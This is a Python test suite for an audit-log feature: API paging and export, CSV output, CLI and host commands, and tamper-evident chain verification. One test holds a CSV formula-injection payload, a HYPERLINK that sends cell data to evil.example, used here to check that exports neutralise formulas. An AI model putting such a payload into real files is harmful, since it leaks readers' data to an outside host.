"""The audit log as admins read it: pages and files over the API, in a shell, and on the host."""

from __future__ import annotations

import contextlib
import csv
import io
import json
import re
import shlex
import stat
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from flask import Flask

from tests.audit_actions import PAGE, written
from tests.test_audit import by_hand, entries, filled
from tests.test_cli import Shell, home, shell
from tests.viewer_fixtures import People, ViewerClient
from viewer import admin_audit, audit, audit_store
from viewer.admin import main
from viewer.audit_files import entries_of, export, problems_of
from viewer.model import Role, Scope, utcnow
from viewer.services import Services
from viewer.settings import Settings
from viewer.store import Store
from viewer.tables import ApiKeyRow

__all__ = ["home", "shell"]


@pytest.fixture(autouse=True)
def nobody_acts_after_a_test() -> Iterator[None]:
    yield
    audit.over()
    audit.acts_as("deskfleet")


def test_admin_reads_his_own_tenants_log_and_nothing_else(
    client: ViewerClient, store: Store, people: People
) -> None:
    client.post("/api/v1/sessions", json={"wait": False}, headers=people.bob.headers)
    client.post("/api/v1/sessions", json={"wait": False}, headers=people.alice.headers)
    answer = client.get("/api/v1/audit?limit=200", headers=people.ada.headers)
    assert [item["number"] for item in answer.json["items"]] == [e.number for e in entries(store)][::-1]
    assert {item["tenant_id"] for item in answer.json["items"]} == {"acme"}
    assert answer.json["items"][0]["action"] == "session.create"
    file = client.get("/api/v1/audit/export", headers=people.ada.headers).get_data(as_text=True)
    assert {json.loads(line)["tenant_id"] for line in file.splitlines()} == {"acme"}


def test_pages_are_followed_by_cursor(client: ViewerClient, store: Store, people: People) -> None:
    filled(store, 9)
    found, cursor = [], ""
    while True:
        answer = client.get(f"/api/v1/audit?limit=4{cursor}", headers=people.ada.headers).json
        found += [item["number"] for item in answer["items"]]
        if answer["next_cursor"] is None:
            break
        cursor = f"&cursor={answer['next_cursor']}"
    assert found == list(range(len(entries(store)), 0, -1))


@pytest.mark.parametrize("cursor", ["x", "MA", "LTE", "MTIzNDU2Nzg5MDEyMzQ1Njc4OTA", "é", "A" * 100])
def test_a_made_up_cursor_is_400(client: ViewerClient, people: People, cursor: str) -> None:
    assert client.get(f"/api/v1/audit?cursor={cursor}", headers=people.ada.headers).status_code == 400


@pytest.mark.parametrize(
    ("conditions", "field"),
    [
        ("action=key.creat", "action"), ("action=", "action"), ("since=yesterday", "since"),
        ("since=2026-11-30T06:00:00", "since"), ("until=2026-13-01", "until"), ("limit=0", "limit"),
        ("principle=key:a", "principle"),
    ],
)  # fmt: skip
def test_conditions_that_cannot_be_used_are_named(
    client: ViewerClient, people: People, conditions: str, field: str
) -> None:
    answer = client.get(f"/api/v1/audit?{conditions}", headers=people.ada.headers)
    assert answer.status_code == 422
    assert answer.json["errors"][0]["field"] == field


def test_conditions_narrow_page_and_file(client: ViewerClient, store: Store, people: People) -> None:
    filled(store, 5)
    today, tomorrow = f"{utcnow():%Y-%m-%d}", f"{utcnow() + timedelta(days=1):%Y-%m-%d}"
    for conditions, some in {
        "action=key": True,
        "action=audit.export&principal=key:1": True,
        "target=t:3": True,
        f"since={today}": True,
        f"until={today}": False,
        f"since={today}&until={tomorrow}": True,
        f"since={tomorrow}": False,
    }.items():
        page = client.get(f"/api/v1/audit?limit=200&{conditions}", headers=people.ada.headers).json["items"]
        file = client.get(f"/api/v1/audit/export?{conditions}", headers=people.ada.headers)
        lines = [json.loads(line)["number"] for line in file.get_data(as_text=True).splitlines()]
        assert bool(page) == some, conditions
        # The export itself is noted, and may match.
        assert lines[: len(page)] == [item["number"] for item in page][::-1]
        assert len(lines) <= len(page) + 1


def test_chain_is_checked_over_http(client: ViewerClient, store: Store, people: People) -> None:
    client.post("/api/v1/sessions", json={"wait": False}, headers=people.alice.headers)
    answer = client.get("/api/v1/audit/chain", headers=people.ada.headers).json
    assert answer["problems"] == []
    assert answer["checked"] == answer["of"] > 0


def test_only_keys_for_managing_read_it(client: ViewerClient, store: Store, people: People) -> None:
    key = store.accounts.add_key("acme", Role.ADMIN)
    with store._database.writing() as orm:
        orm.get_one(ApiKeyRow, key.id).scopes = [Scope.SESSIONS.value]
    headers = {"Authorization": f"Bearer {key.text}"}
    for path in ("/api/v1/audit", "/api/v1/audit/export"):
        assert client.get(path, headers=headers).status_code == 403


def test_an_export_is_verified_and_noted(client: ViewerClient, store: Store, people: People) -> None:
    filled(store, 9)
    answer = client.get("/api/v1/audit/export?format=ndjson", headers=people.ada.headers)
    assert answer.content_type == "application/x-ndjson"
    assert answer.headers["Content-Disposition"].startswith('attachment; filename="audit-acme-')
    text = answer.get_data(as_text=True)
    assert text == "".join(f"{entry.line()}\n" for entry in entries(store))
    assert entries(store)[-1].action == "audit.export"
    assert client.head("/api/v1/audit/export", headers=people.ada.headers).status_code == 200
    assert text == "".join(f"{entry.line()}\n" for entry in entries(store))


def test_a_file_is_written_while_it_is_read(
    app: Flask, client: ViewerClient, store: Store, people: People, monkeypatch: pytest.MonkeyPatch
) -> None:
    """At any time no more of it is in memory than one part, and one transaction is never open between."""
    filled(store, 50)
    monkeypatch.setattr(audit_store, "_ROWS_AT_ONCE", 10)
    monkeypatch.setattr("viewer.audit_files._LINES_AT_ONCE", 10)
    answer = client.get("/api/v1/audit/export", headers=people.ada.headers, buffered=False)
    parts = answer.iter_encoded()
    assert len(next(parts).splitlines()) == 10
    filled(store, 10)  # nothing locks it out
    assert sum(len(part.splitlines()) for part in parts) == len(entries(store)) - 10
    answer.close()


def test_files_that_are_being_read_are_counted(
    app: Flask, client: ViewerClient, store: Store, people: People
) -> None:
    here: Services = app.extensions["deskfleet"]
    filled(store, 5)
    before = here.waits.held()
    answer = client.get("/api/v1/audit/export", headers=people.ada.headers, buffered=False)
    assert here.waits.held() == before + 1
    answer.close()
    assert here.waits.held() == before
    assert client.get("/api/v1/audit/export?format=xml", headers=people.ada.headers).status_code == 422
    assert here.waits.held() == before
    open_ones = []
    while True:
        another = client.get("/api/v1/audit/export", headers=people.ada.headers, buffered=False)
        if another.status_code != 200:
            break
        open_ones.append(another)
    assert another.status_code == 429
    for one in open_ones:
        one.close()
    assert here.waits.held() == before


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "＝"])
def test_csv_holds_no_formula(client: ViewerClient, store: Store, people: People, start: str) -> None:
    evil = f'{start}HYPERLINK("http://evil.example/?"&A1,"click"),"\n=1+1'
    key = store.accounts.add_key("acme", Role.OPERATOR, evil)
    client.post("/api/v1/sessions", json={"wait": False}, headers={"Authorization": f"Bearer {key.text}"})
    text = client.get("/api/v1/audit/export?format=csv", headers=people.ada.headers).get_data(as_text=True)
    header, *rows = csv.reader(io.StringIO(text))
    assert len(rows) == len(entries(store))
    assert all(len(row) == len(header) for row in rows)
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝"))]
    assert any("HYPERLINK" in cell for cell in cells)


def test_csv_has_the_same_entries(store: Store) -> None:
    filled(store, 3)
    rows = list(csv.DictReader(io.StringIO("".join(export(entries(store), "csv")))))
    assert [(int(row["number"]), row["principal"], row["chain"]) for row in rows] == [
        (entry.number, entry.principal, entry.chain) for entry in entries(store)
    ]


# --- in a shell -------------------------------------------------------------------------------------


def test_cli_lists_and_exports(shell: Shell, store: Store, people: People, tmp_path: Path) -> None:
    filled(store, 3)
    assert shell(people.ada, "audit list --limit 2") == 0
    assert shell.out.splitlines()[0].split()[:4] == ["WHEN", "WHO", "FROM", "ACTION"]
    assert len(shell.out.splitlines()) == 3
    document = shell.document(people.ada, "audit list --action key --limit 500")
    assert {item["action"] for item in document["items"]} == {"key.create"}
    file = tmp_path / "log.ndjson"
    assert shell(people.ada, f"audit export --to {file}") == 0
    assert list(problems_of(entries_of(file.read_text().splitlines()))) == []
    assert len(file.read_text().splitlines()) == len(entries(store))
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    assert shell(people.ada, f"audit export --to {file}") == 2
    assert "give a new name" in shell.err
    assert shell(people.alice, "audit list") == 1
    assert "needs the role admin" in shell.err
    assert shell(people.ada, "audit list --since yesterday") == 2


# --- on the host ------------------------------------------------------------------------------------


@pytest.fixture
def run(store: Store, settings: Settings, monkeypatch: pytest.MonkeyPatch, capsys: Any) -> Any:
    """`deskfleet-admin audit …` in this process: what it printed, or what it refused with."""
    monkeypatch.setattr("viewer.admin.load_settings", lambda **_: settings)

    def run_it(*words: object) -> str:
        capsys.readouterr()
        with contextlib.suppress(SystemExit):
            main(["audit", *map(str, words)])
            return str(capsys.readouterr().out)
        return str(capsys.readouterr().err)

    return run_it


def test_host_verifies_names_what_is_wrong_and_prunes_nothing_then(
    run: Any, store: Store, people: People, tmp_path: Path
) -> None:
    filled(store, 9)
    assert "acme: as it was written up to entry" in run("verify")
    by_hand(store, "UPDATE audit_log SET address = '192.0.2.1' WHERE tenant_id = 'acme' AND number = 4")
    assert "acme: entry 4 was changed" in run("verify")
    made_old(store)
    assert "nothing was pruned" in run("prune", "--before", f"{utcnow():%Y-%m-%d}", "--to", tmp_path / "x")
    assert not (tmp_path / "x").exists()


def made_old(store: Store, monkeypatch: pytest.MonkeyPatch | None = None) -> None:
    """As if all until now had been written two days ago; without a chain that fits."""
    by_hand(store, "UPDATE audit_log SET at = '2020-01-01 00:00:00.000000'")


def test_host_exports_prunes_and_all_stays_verifiable(
    run: Any, store: Store, people: People, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    past = utcnow() - timedelta(days=3)
    with monkeypatch.context() as then:
        then.setattr(audit, "utcnow", lambda: past)
        filled(store, 25)
    old_ones = len(entries(store))
    filled(store, 4)
    monkeypatch.setattr(admin_audit, "PRUNED_AT_ONCE", 10)
    old, day = tmp_path / "old.ndjson", f"{utcnow():%Y-%m-%d}"
    kept = tmp_path / "heads"
    kept.write_text(run("heads"))
    said = run("prune", "--before", day, "--to", old, "--tenant", "acme")
    # What lies before the oldest of them in the log is taken for as old.
    assert said.startswith(f"{len(old.read_text().splitlines())} entries are in")
    assert stat.S_IMODE(old.stat().st_mode) == 0o600
    left = entries(store)
    assert [entry.action for entry in left[-3:]] == ["audit.prune"] * 3
    assert left[-1].principal.startswith("host:")
    assert left[0].number == old_ones + 1
    assert "acme: as it was written up to entry" in run("verify")
    assert "acme: as it was written" in run("verify", "--kept", kept)
    assert "is as it was written" in run("verify", "--file", old)
    whole = [*entries_of(old.read_text().splitlines()), *left]
    assert list(audit.broken(whole)) == []
    later = tmp_path / "later.ndjson"
    run("export", "--to", later)
    assert "is as it was written" in run("verify", "--file", later)
    lines = old.read_text().splitlines(keepends=True)
    old.write_text("".join([*lines[:5], *lines[6:]]))
    assert "entry 6 is missing" in run("verify", "--file", old)
    forged = {**json.loads(lines[0]), "principal": "user:somebody"}
    old.write_text("".join([json.dumps(forged) + "\n", *lines[1:]]))
    assert "entry 1 was changed" in run("verify", "--file", old)


def test_host_refuses_what_makes_no_sense(run: Any, store: Store, people: People, tmp_path: Path) -> None:
    taken = tmp_path / "taken"
    taken.write_text("mine")
    tomorrow = f"{utcnow() + timedelta(days=2):%Y-%m-%d}"
    day = f"{utcnow():%Y-%m-%d}"
    assert "is yet to come" in run("prune", "--before", tomorrow, "--to", tmp_path / "x")
    assert "is no day" in run("prune", "--before", "soon", "--to", tmp_path / "x")
    assert "no entry from before" in run("prune", "--before", day, "--to", tmp_path / "x")
    assert "exists already" in run("export", "--to", taken)
    assert taken.read_text() == "mine"
    assert "no audit log of nobody; known: " in run("export", "--to", tmp_path / "x", "--tenant", "nobody")
    assert "line 1 is no entry" in run("verify", "--file", taken)
    assert "not what `deskfleet-admin audit heads` prints" in run("verify", "--kept", taken)
    assert "cannot be read" in run("verify", "--file", tmp_path / "nothing")
    assert not (tmp_path / "x").exists()


def test_a_head_that_was_pruned_since_is_said(store: Store) -> None:
    filled(store, 5)
    kept = next(head for head in store.audit.heads() if head.tenant_id == "acme")
    filled(store, 5)
    store.audit.prune("acme", entries(store)[-1], file="x")
    assert "has been pruned since" in next(iter(store.audit.problems(kept)))


# --- the page ---------------------------------------------------------------------------------------


def test_page_names_every_action() -> None:
    assert written(PAGE.read_text()) == PAGE.read_text(), "run `python -m tests.audit_actions`"


def test_every_command_of_the_page_works(
    run: Any, shell: Shell, store: Store, people: People, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    past = utcnow() - timedelta(days=3650)
    with monkeypatch.context() as then:
        then.setattr(audit, "utcnow", lambda: past)
        filled(store, 5)
    commands = re.findall(
        r"^(?:sudo /opt/deskfleet/viewer/bin/)?(deskfleet.*)", PAGE.read_text(), re.MULTILINE
    )
    assert len(commands) == 12
    monkeypatch.chdir(tmp_path)
    for command in commands:
        program, *words = shlex.split(command.replace("/root/", f"{tmp_path}/"))
        if program == "deskfleet":
            assert shell(people.ada, " ".join(words)) == 0, shell.err
            continue
        *words, target = words if ">" in words else [*words, ""]
        said = run(*(word for word in words[1:] if word != ">"))
        assert "deskfleet-admin:" not in said, command
        if target:
            Path(target).write_text(said)
    assert len((tmp_path / "audit-2025.ndjson").read_text().splitlines()) >= 5
